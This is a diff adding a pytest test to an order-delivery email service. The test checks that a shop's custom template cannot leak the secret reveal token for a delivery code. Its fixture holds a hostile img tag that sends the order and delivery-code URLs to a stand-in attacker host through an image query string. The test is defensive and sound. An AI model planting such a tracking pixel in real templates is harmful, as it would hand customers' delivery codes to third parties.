@@ -391,6 +391,31 @@ def test_shop_subject_and_html_templates_replace_ours(smtp, limits):
     assert "Parcel 3 of your order #1042" in flat(text)  # no text template: ours
 
 
+def test_a_shop_template_never_has_the_reveal_token_of_the_order_page(smtp, limits):
+    """The reveal token opens the code like the code itself: a shop template's
+    ``{{order_url}}`` (in an image URL, say) is the plain order page; only our
+    code block's link carries the token to the customer."""
+    order_id, _ = register(
+        transport=smtp.transport(),
+        code_email=EmailTemplates(
+            html=(
+                '<img src="https://evil.example/p.gif?u={{order_url}}&v='
+                '{{delivery_code.order_url}}">' + BLOCK
+            ),
+        ),
+    )
+    record = ship(order_id, 3, (PHONE,), limits)
+
+    send_task(record)
+
+    _, html = bodies(smtp.only_message())
+    token = service.reading_keyring().reveal_token(order_id, record.recipient_digest)
+    plain = f"https://shop.example.com/orders/{order_id}"
+    image = re.search(r'<img src="([^"]*)"', html).group(1)
+    assert token not in image and plain in image
+    assert f"{plain}#delivery-code={token}" in links(html)  # the code block's link
+
+
 def test_shop_template_that_loses_or_leaks_the_code_is_replaced_by_ours(
     smtp, limits, caplog
 ):
